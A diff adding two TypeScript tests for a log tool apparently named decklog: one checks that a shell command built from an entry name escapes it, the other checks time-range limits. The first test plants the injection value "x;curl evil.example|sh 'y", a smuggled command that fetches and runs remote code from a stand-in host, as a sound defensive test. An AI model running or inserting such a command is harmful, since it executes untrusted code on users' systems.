@@ -85,3 +85,25 @@ test("the difference of two texts", () => {
   const far = lineDiff(Array.from({ length: 3000 }, (_, index) => `a${index}`).join("\n"), Array.from({ length: 3000 }, (_, index) => `b${index}`).join("\n"));
   assert.equal(far.split("\n").length, 6000);
 });
+
+test("a name is no command", async () => {
+  const copy = JSON.parse(JSON.stringify(served)) as FileData;
+  const [lane] = copy.lanes.lanes.filter((one) => one.marks.filter((mark) => copy.entries[mark.seq]?.yaml).length > 1);
+  const seqs = lane!.marks.map((mark) => mark.seq).filter((seq) => copy.entries[seq]?.yaml).slice(0, 2);
+  for (const seq of seqs) copy.entries[seq]!.summary.name = "x;curl evil.example|sh 'y";
+  const { command } = await new Embedded(copy).diff(seqs[0]!, seqs[1]!);
+  assert.match(command!, /^decklog diff '[a-z]+\/x;curl evil\.example\|sh '\\''y'/);
+});
+
+test("a file knows nothing beyond its ends", async () => {
+  const copy = JSON.parse(JSON.stringify(served)) as FileData;
+  const until = Date.parse(copy.lanes.until) - 3_600_000;
+  copy.lanes.until = new Date(until).toISOString();
+  const short = new Embedded(copy);
+  const known = await short.overview();
+  assert.deepEqual([Date.parse(known.now), Date.parse(known.end)], [until, until]);
+  const answer = await short.lanes({ since: copy.lanes.since, until: "2026-11-25T03:00:00Z" }, NO_FILTERS);
+  assert.equal(Date.parse(answer.until), until);
+  await assert.rejects(short.state("2026-11-25T03:00:00Z", NO_FILTERS), /is not in this file, which goes from/);
+  await assert.rejects(short.state("2020-01-01T00:00:00Z", NO_FILTERS), /is not in this file/);
+});
